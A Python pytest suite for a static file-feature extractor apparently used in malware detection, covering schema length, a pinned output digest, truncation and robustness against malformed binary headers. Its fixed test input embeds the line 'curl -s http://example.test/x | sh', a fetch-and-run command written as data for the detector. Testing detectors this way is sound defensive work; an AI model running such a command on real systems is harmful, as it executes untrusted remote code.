"""static-v1: fixed length, deterministic, pinned, robust on malformed headers."""

from __future__ import annotations

import hashlib
import struct

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.features import (
    FEATURE_NAMES,
    MAX_BYTES,
    SCHEMA,
    VECTOR_LENGTH,
    extract_features,
    extract_file,
    is_supported_schema,
)

FIXED = (
    b"#!/bin/sh\ncurl -s http://example.test/x | sh\n"
    + bytes(range(256)) * 40
    + b"MZ\x90\x00" * 100
)


def test_schema_names_its_length():
    assert SCHEMA.name == "static-v1"
    assert SCHEMA.vector_length == VECTOR_LENGTH == len(FEATURE_NAMES) == 669
    assert len(set(FEATURE_NAMES)) == VECTOR_LENGTH
    assert is_supported_schema("static-v1", VECTOR_LENGTH)
    assert not is_supported_schema("static-v2", VECTOR_LENGTH)
    assert not is_supported_schema("static-v1", VECTOR_LENGTH + 1)


def test_vector_is_pinned_for_a_fixed_input():
    """Any change to static-v1's computation breaks this pin: bump the schema instead."""
    vec = extract_features(FIXED)
    assert vec.dtype == np.float32 and vec.shape == (VECTOR_LENGTH,)
    digest = hashlib.sha256(np.round(vec.astype(np.float64), 5).tobytes()).hexdigest()
    assert digest == PINNED_DIGEST
    named = dict(zip(FEATURE_NAMES, vec.tolist(), strict=True))
    assert named["format_script"] == 1.0 and named["script_sh"] == 1.0
    assert named["str_marker_urls_log"] == pytest.approx(np.log1p(1))
    assert named["log_size"] == pytest.approx(np.log1p(len(FIXED)), rel=1e-6)


PINNED_DIGEST = "cde02c44a13b18d496ffbbc1957862cc43191cd70e59aef8d142d34b803495f5"


def test_same_bytes_same_vector_and_file_equals_memory(tmp_path):
    path = tmp_path / "f.bin"
    path.write_bytes(FIXED)
    assert np.array_equal(extract_features(FIXED), extract_features(bytes(FIXED)))
    assert np.array_equal(extract_file(path), extract_features(FIXED))


def test_byte_histogram_and_entropy_histogram_are_distributions():
    vec = extract_features(FIXED)
    assert vec[:256].sum() == pytest.approx(1.0, abs=1e-5)
    assert vec[256:512].sum() == pytest.approx(1.0, abs=1e-5)


def test_empty_input_gives_zero_histograms():
    vec = extract_features(b"")
    assert vec.shape == (VECTOR_LENGTH,)
    assert not vec[:512].any()


def test_file_over_the_cap_is_scored_on_its_prefix_and_marked_truncated(tmp_path):
    path = tmp_path / "big.bin"
    with open(path, "wb") as fh:
        fh.truncate(MAX_BYTES + 4096)
    named = dict(zip(FEATURE_NAMES, extract_file(path).tolist(), strict=True))
    assert named["truncated"] == 1.0
    assert named["log_size"] > named["log_scanned"]


ELF_HEADER = b"\x7fELF\x02\x01\x01" + b"\0" * 9


@pytest.mark.parametrize(
    "data",
    [
        ELF_HEADER,
        ELF_HEADER
        + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 2**63, 0, 64, 56, 9, 64, 65535, 0),
        b"MZ" + b"\0" * 58 + struct.pack("<I", 0xFFFFFFF0),
        b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\xff" * 30,
        b"\xcf\xfa\xed\xfe" + b"\xff" * 40,
        b"\xcf\xfa\xed\xfe"
        + struct.pack("<iiIII", 7, 3, 2, 5, 0)
        + b"\0" * 4
        + struct.pack("<II", 0x19, 4),
        b"#!",
        b"\xca\xfe\xba\xbe",
    ],
)
def test_malformed_headers_never_raise(data):
    vec = extract_features(data)
    assert vec.shape == (VECTOR_LENGTH,) and np.all(np.isfinite(vec))


@settings(max_examples=150, deadline=None)
@given(
    st.binary(max_size=5000), st.sampled_from([b"", b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"#!"])
)
def test_any_bytes_give_a_finite_vector(data, prefix):
    vec = extract_features(prefix + data)
    assert vec.shape == (VECTOR_LENGTH,) and np.all(np.isfinite(vec))


def test_real_elf_sections_are_parsed():
    named = dict(zip(FEATURE_NAMES, extract_file("/bin/sh").tolist(), strict=True))
    assert named["format_elf"] == 1.0
    assert named["hdr_parse_error"] == 0.0
    assert named["sec_count_log"] > 0
